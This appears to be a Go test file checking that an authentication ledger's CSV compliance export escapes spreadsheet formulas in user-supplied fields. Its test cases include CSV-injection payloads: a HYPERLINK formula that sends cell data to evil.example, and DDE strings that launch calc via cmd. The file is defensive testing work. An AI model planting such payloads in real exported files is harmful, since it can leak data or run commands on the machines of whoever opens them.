package compliance_test

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/authledger/authledger/api/app"
	"github.com/authledger/authledger/api/compliance"
	"github.com/authledger/authledger/api/sessions"
	"github.com/authledger/authledger/domain"
	"github.com/authledger/authledger/domain/person"
	"github.com/authledger/authledger/eventstore"
)

// TestCSVExportNeutralizesFormulas: user-controlled text (user agent,
// request id, IP as sent, name) that a spreadsheet would run as a formula
// is exported with a leading single quote inside a quoted field (OWASP CSV
// injection guidance); read back with a real CSV reader, every cell keeps
// its text and none starts with a formula trigger.
func TestCSVExportNeutralizesFormulas(t *testing.T) {
	cases := []struct{ name, userAgent, want string }{
		{"equals", `=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"fullwidth equals", "＝1+1", "'＝1+1"},
		{"plain", "Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (X11; Linux x86_64)"},
		{"inner formula", "curl/8 =1+1", "curl/8 =1+1"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := newFixture(t, compliance.Deps{}, false)
			who := app.Caller{RequestID: "-R000000000000000000000000000001", IP: "@203.0.113.9", UserAgent: c.userAgent}
			pid := signUpAs(t, f, who, "bob@example.com", "=1+2")
			var buf bytes.Buffer
			err := f.svc.Export(context.Background(), compliance.ExportInput{Reader: admin,
				Filter: compliance.Filter{Person: pid, Format: compliance.FormatCSV, IncludePII: true}, W: &buf})
			if err != nil {
				t.Fatal(err)
			}
			recs := csvRows(t, buf.Bytes())
			if len(recs) < 2 {
				t.Fatalf("export %q", buf.Bytes())
			}
			col := map[string]int{}
			for i, h := range recs[0] {
				col[h] = i
			}
			for _, rec := range recs[1:] {
				if got := rec[col["userAgent"]]; got != c.want {
					t.Errorf("userAgent cell %q, want %q", got, c.want)
				}
				if got := rec[col["requestId"]]; got != "'"+who.RequestID {
					t.Errorf("requestId cell %q", got)
				}
				if got := rec[col["ip"]]; got != "'"+who.IP {
					t.Errorf("ip cell %q", got)
				}
				for i, cell := range rec {
					if cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) {
						t.Errorf("cell %s = %q starts with a formula trigger", recs[0][i], cell)
					}
				}
			}
			if !strings.Contains(buf.String(), `"'`) {
				t.Errorf("neutralized cells are not quoted: %q", buf.String())
			}
		})
	}
}

// signUpAs appends a sign-up with one session, made by who.
func signUpAs(t *testing.T, f *fixture, who app.Caller, email, name string) string {
	t.Helper()
	ids, err := f.App.NewIDs(1)
	if err != nil {
		t.Fatal(err)
	}
	pid, now := ids[0], f.App.Now()
	stream := domain.PersonStream(pid)
	evs, err := person.Decide(person.State{}, person.SignUp{PersonID: pid, Email: email, Name: name, Role: "user", At: now})
	if err != nil {
		t.Fatal(err)
	}
	o, err := sessions.New(f.App, sessions.Config{}).Open(who, pid, true, now)
	if err != nil {
		t.Fatal(err)
	}
	_, err = f.App.Commit(context.Background(), who.Meta(pid, now), pid, eventstore.Change{Stream: stream,
		Expected: eventstore.NoStream, Events: evs, Claims: []eventstore.Claim{f.App.Claim("email", email, stream)}}, o.Change)
	if err != nil {
		t.Fatal(err)
	}
	return pid
}
